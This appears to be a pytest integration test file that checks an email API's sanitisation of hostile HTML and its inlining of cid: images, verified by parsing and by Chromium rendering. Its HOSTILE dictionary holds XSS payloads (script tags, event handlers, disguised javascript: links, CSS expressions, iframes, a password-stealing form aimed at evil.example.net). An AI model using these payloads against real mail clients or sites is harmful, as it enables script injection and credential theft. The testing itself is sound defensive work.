"""GET /message/{id}?webSafeHtml=true and embedAttachedImages against the real Dovecot: hostile HTML
comes back inert (checked by parsing it and by rendering it in Chromium), cid: images come back as
data: URLs within the configured bound, and the options combine as EmailEngine's do."""

from __future__ import annotations

import base64
import os
from email import policy
from email.message import EmailMessage
from html.parser import HTMLParser

import pytest

from chalicelib.settings import reset_settings
from tests.integration.mail_api_support import fill
from tests.support.browser import offline_page

PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452") + os.urandom(48)
BIG = os.urandom(30_000)

# Each entry: what a hostile message puts in its HTML. None of it may survive as active content.
HOSTILE = {
    "script": "<p>a</p><script>alert('script')</script>",
    "onerror": "<img src=\"https://img.example.net/x.png\" onerror=\"alert('onerror')\">",
    "javascript-href": "<a href=\"javascript:alert('href')\">click</a>",
    "javascript-href-disguised": "<a href=\"  JaVaScRiPt&colon;alert('href2')\">click</a>",
    "remote-form": "<form action=\"https://evil.example.net/steal\" method=post><input name=password>"
                   "<button>Log in</button></form>",
    "svg-onload": "<svg onload=\"alert('svg')\"><circle r=5 /></svg>",
    "style-expression": "<div style=\"width: expression(alert('css')); color: red\">styled</div>",
    "style-expression-comment": "<div style=\"width: ex/**/pression(alert('css2'))\">styled</div>",
    "iframe": "<iframe src=\"https://evil.example.net/frame\"></iframe>",
    "meta-refresh": "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example.net/\">",
    "base": "<base href=\"https://evil.example.net/\"><a href=\"/relative\">rel</a>",
    "object": "<object data=\"https://evil.example.net/x.swf\"></object><embed src=\"https://evil.example.net/e\">",
    "body-onload": "<body onload=\"alert('body')\"><p>body</p></body>",
    "data-html-link": "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "position-overlay": "<div style=\"position: fixed; top: 0; left: 0; z-index: 9999\">overlay</div>",
    "dom-clobbering": "<img name=\"getElementById\" id=\"cookie\" src=\"cid:none@x\">",
}
SAFE_SCHEMES = ("http:", "https:", "mailto:", "tel:", "cid:", "data:image/")


class _Audit(HTMLParser):
    """Everything in the HTML that a browser could run, submit or load from a hidden place."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"script", "style", "form", "input", "button", "svg", "iframe", "object", "embed", "meta", "base",
                   "link", "body", "html"}:
            self.findings.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") or name in {"id", "name", "class", "action", "formaction"}:
                self.findings.append(f"{tag}[{name}]")
            if name in {"href", "src", "background", "cite"} and not value.startswith(SAFE_SCHEMES):
                self.findings.append(f"{tag}[{name}={value[:30]}]")
            if name == "style" and ("expression" in value or "position" in value or "javascript" in value):
                self.findings.append(f"{tag}[style={value[:40]}]")


def audit(html: str) -> list[str]:
    parser = _Audit()
    parser.feed(html)
    parser.close()
    return parser.findings


def html_message(html: str, *, subject: str = "web safe", images: dict[str, bytes] | None = None,
                 plain: str | None = "plain version\n") -> bytes:
    message = EmailMessage()
    message["From"] = "Mallory <mallory@example.test>"
    message["To"] = "bob@example.test"
    message["Subject"] = subject
    message["Message-ID"] = f"<ws-{os.urandom(4).hex()}@example.test>"
    if plain is not None:
        message.set_content(plain)
        message.add_alternative(html, subtype="html")
        container = message.get_payload()[1]
    else:
        message.set_content(html, subtype="html")
        container = message
    for cid, content in (images or {}).items():
        container.add_related(content, maintype="image", subtype="png", cid=f"<{cid}>")
    return message.as_bytes(policy=policy.SMTP)


def plain_message(text: str) -> bytes:
    message = EmailMessage()
    message["From"] = "ann@example.test"
    message["To"] = "bob@example.test"
    message["Subject"] = "plain only"
    message.set_content(text)
    return message.as_bytes(policy=policy.SMTP)


def read(api, account, imap, raw: bytes, query: str) -> dict:
    fill(imap, "INBOX", [raw])
    message_id = api.get(f"/v1/account/{account}/messages?pageSize=1").json["messages"][0]["id"]
    response = api.get(f"/v1/account/{account}/message/{message_id}?{query}")
    assert response.status == 200, response.body
    return response.json


@pytest.fixture
def embed_bound(monkeypatch):
    def change(limit: int) -> None:
        monkeypatch.setenv("IMAPLESS_EMBED_IMAGES_MAX_BYTES", str(limit))
        reset_settings()
    yield change
    monkeypatch.delenv("IMAPLESS_EMBED_IMAGES_MAX_BYTES", raising=False)
    reset_settings()


class TestWebSafeHtml:
    def test_the_hostile_corpus_is_active_without_web_safe_html(self, api, account, imap):
        # The control: as stored, the corpus is what the audit looks for, so the next test can fail.
        html = read(api, account, imap, html_message("".join(HOSTILE.values())), "textType=html")["text"]["html"]
        assert len(audit(html)) >= len(HOSTILE)

    def test_every_hostile_construct_is_removed_and_the_text_kept(self, api, account, imap):
        # Given a message carrying every hostile construct of the corpus
        harmless = '<span style="color: red; font-weight: bold">harmless</span>'
        message = read(api, account, imap, html_message("".join(HOSTILE.values()) + harmless), "webSafeHtml=true")

        # Then nothing active is left, and the harmless text and the plain part are still there
        html = message["text"]["html"]
        assert audit(html) == []
        assert message["text"]["webSafe"] is True
        assert message["text"]["plain"] == "plain version\n"
        for kept in ("click", "styled", "overlay", "body", "rel"):
            assert kept in html
        assert '<span style="color:red;font-weight:bold">harmless</span>' in html  # harmless styling survives
        assert "<div>styled</div>" in html  # a style asking for script is dropped whole
        assert 'href="https://' not in html  # nothing in the corpus links anywhere real

    @pytest.mark.parametrize("name", sorted(HOSTILE))
    def test_each_construct_alone_is_removed(self, api, account, imap, name):
        html = read(api, account, imap, html_message(HOSTILE[name]), "webSafeHtml=true")["text"]["html"]
        assert audit(html) == [], html

    def test_rendered_in_a_browser_nothing_runs_and_nothing_is_fetched(self, api, account, imap, browser):
        # Given the corpus as webSafeHtml returns it, minus the one harmless remote image
        corpus = "".join(value for key, value in HOSTILE.items() if key != "onerror")
        html = read(api, account, imap, html_message(corpus), "webSafeHtml=true")["text"]["html"]

        # When Chromium renders it on a page with no network, and each link is clicked
        with offline_page(browser) as opened:
            opened.page.set_content(f"<!doctype html><meta charset=utf-8><div id=mail>{html}</div>")
            for link in opened.page.query_selector_all("a"):
                link.click(modifiers=["Alt"], no_wait_after=True)
            opened.page.wait_for_timeout(300)
            opened.screenshot("web-safe-html-corpus")

            # Then no script ran and nothing was requested
            assert opened.dialogs == []
            assert opened.blocked == []
            assert opened.page.evaluate("document.querySelectorAll('#mail form, #mail script').length") == 0

    def test_the_browser_check_would_catch_the_unsanitized_corpus(self, browser):
        with offline_page(browser) as opened:
            opened.page.set_content(f"<!doctype html><div>{HOSTILE['script']}{HOSTILE['svg-onload']}</div>")
            opened.page.wait_for_timeout(300)
            assert opened.dialogs

    def test_a_plain_text_message_gets_escaped_html(self, api, account, imap):
        message = read(api, account, imap, plain_message("Hi <b>not bold</b> & more\nline two\n"),
                       "webSafeHtml=true")
        html = message["text"]["html"]
        assert "&lt;b&gt;not bold&lt;/b&gt; &amp; more<br>" in html and "line two" in html
        assert audit(html) == [] and message["text"]["webSafe"] is True

    def test_web_safe_html_reads_both_text_types_whatever_text_type_says(self, api, account, imap):
        message = read(api, account, imap, html_message("<p>rich</p>"), "webSafeHtml=true&textType=plain")
        assert message["text"]["plain"] == "plain version\n" and "<p>rich</p>" in message["text"]["html"]


class TestEmbeddedImages:
    HTML = '<p>logo</p><img src="cid:logo@test" alt="logo"><img src="cid:big@test"><img src="cid:missing@test">'

    def images(self, html: str) -> dict[str, str]:
        found: dict[str, str] = {}

        class Images(HTMLParser):
            def handle_starttag(self, tag, attrs):
                if tag == "img":
                    found[str(len(found))] = dict(attrs).get("src") or ""

        Images().feed(html)
        return found

    def test_web_safe_html_inlines_cid_images_as_data_urls(self, api, account, imap):
        raw = html_message(self.HTML, images={"logo@test": PNG, "big@test": BIG})
        message = read(api, account, imap, raw, "webSafeHtml=true")
        sources = list(self.images(message["text"]["html"]).values())
        assert sources[0] == "data:image/png;base64," + base64.b64encode(PNG).decode()
        assert sources[1] == "data:image/png;base64," + base64.b64encode(BIG).decode()
        assert sources[2] == "cid:missing@test"  # nothing in the message to inline
        assert "warnings" not in message

    def test_embed_attached_images_alone_keeps_the_html_otherwise_as_it_was(self, api, account, imap):
        html = '<p onclick="x()">keep</p><IMG  alt=x SRC=cid:logo@test>'
        message = read(api, account, imap, html_message(html, images={"logo@test": PNG}),
                       "embedAttachedImages=true")
        expected = html.replace("cid:logo@test", "data:image/png;base64," + base64.b64encode(PNG).decode())
        assert message["text"]["html"].rstrip("\n") == expected
        assert "webSafe" not in message["text"]

    def test_an_explicit_false_keeps_cid_references_under_web_safe_html(self, api, account, imap):
        raw = html_message(self.HTML, images={"logo@test": PNG, "big@test": BIG})
        message = read(api, account, imap, raw, "webSafeHtml=true&embedAttachedImages=false")
        assert list(self.images(message["text"]["html"]).values())[:2] == ["cid:logo@test", "cid:big@test"]
        assert message["text"]["webSafe"] is True

    def test_images_beyond_the_bound_keep_their_cid_and_are_named_in_a_warning(self, api, account, imap,
                                                                                embed_bound):
        # Given a bound the small image fits in and the large one does not
        embed_bound(5_000)
        raw = html_message(self.HTML, images={"logo@test": PNG, "big@test": BIG})

        # When the message is read with its images embedded
        message = read(api, account, imap, raw, "webSafeHtml=true")

        # Then the small one is inlined, the large one keeps its reference, and a warning says so
        sources = list(self.images(message["text"]["html"]).values())
        assert sources[0].startswith("data:image/png;base64,") and sources[1] == "cid:big@test"
        [warning] = message["warnings"]
        assert "cid:big@test" in warning and "5000" in warning


class TestWebSafeText:
    def test_the_text_route_answers_one_sanitized_html_and_no_plain(self, api, account, imap):
        # Given a hostile HTML message and a plain-only one
        hostile = read(api, account, imap, html_message(HOSTILE["script"] + HOSTILE["onerror"]), "textType=plain")
        plain = read(api, account, imap, plain_message("only <plain> text\n"), "textType=plain")

        # When their texts are read with webSafeHtml, even asking for plain only
        answers = [api.get(f"/v1/account/{account}/text/{message['text']['id']}?webSafeHtml=true&textType=plain")
                   for message in (hostile, plain)]

        # Then each is one sanitized html, as EmailEngine's text route answers it
        for response in answers:
            assert response.status == 200, response.body
            assert "plain" not in response.json and response.json["webSafe"] is True
            assert audit(response.json["html"]) == []
        assert "<p>a</p>" in answers[0].json["html"]
        assert "only &lt;plain&gt; text" in answers[1].json["html"]
